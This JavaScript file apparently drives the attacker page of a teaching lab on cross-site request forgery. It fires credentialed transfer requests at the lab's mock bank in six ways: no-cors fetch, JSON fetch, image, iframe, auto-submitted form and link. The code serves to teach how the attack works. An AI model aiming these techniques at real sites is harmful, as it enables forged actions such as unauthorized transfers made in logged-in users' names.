/**
 * The attacker's page of /learn/cross-site: six ways in which any page can make a browser send a request to another site.
 *
 * It sees next to nothing of the answers. What they did is known to the bank alone, whose records the lab's page shows.
 */

import { find } from '../dom.js';

const { tag, run, lab, from } = document.body.dataset;
const query = new URLSearchParams(location.search);
const state = find('[data-state]');
const wait = (milliseconds) => new Promise((resolve) => { setTimeout(resolve, milliseconds); });
const target = (via, todo = '') => `${lab}/bank/transfer?tag=${tag}&run=${run}&from=${from}&via=${via}&todo=${todo}`;

const SEND = {
  /** A "simple" request: no question is asked beforehand. */
  simple: () => fetch(target('simple'), {
    method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'Content-Type': 'text/plain' }, body: '{"amount": 10}',
  }).catch(() => {}),
  /** JSON is not simple: the browser asks the bank first (the CORS preflight). */
  json: () => fetch(target('json'), {
    method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json' }, body: '{"amount": 10}',
  }).catch(() => {}),
  image: () => new Promise((resolve) => {
    const image = new Image();
    image.onload = image.onerror = resolve;
    image.src = target('image');
  }),
  iframe: () => new Promise((resolve) => {
    const frame = document.createElement('iframe');
    frame.title = 'The bank';
    frame.onload = resolve;
    frame.src = target('iframe');
    find('[data-frames]').append(frame);
    setTimeout(resolve, 1500);
  }),
  form: (todo) => {
    const form = find('[data-form]');
    form.action = target('form', todo);
    form.submit();
  },
  link: (todo) => {
    const link = find('[data-link]');
    link.href = target('link', todo);
    link.click();
  },
};

/** One after the other; form and link leave this page, and the bank sends the tab back with what is left to do. */
async function go(todo) {
  const [via, ...rest] = todo;
  if (!via) { state.textContent = 'All sent. The lab’s page has the evidence; you can close this tab.'; return; }
  state.textContent = `Sending: ${via}…`;
  await SEND[via](rest.join(','));
  if (via === 'form' || via === 'link') return;
  await wait(150);
  await go(rest);
}

for (const button of document.querySelectorAll('[data-send]')) {
  button.addEventListener('click', () => go([button.dataset.send]));
}
find('[data-all]').addEventListener('click', () => go(['simple', 'json', 'image', 'iframe', 'form', 'link']));

if (query.has('todo')) go(query.get('todo').split(',').filter((via) => via in SEND));
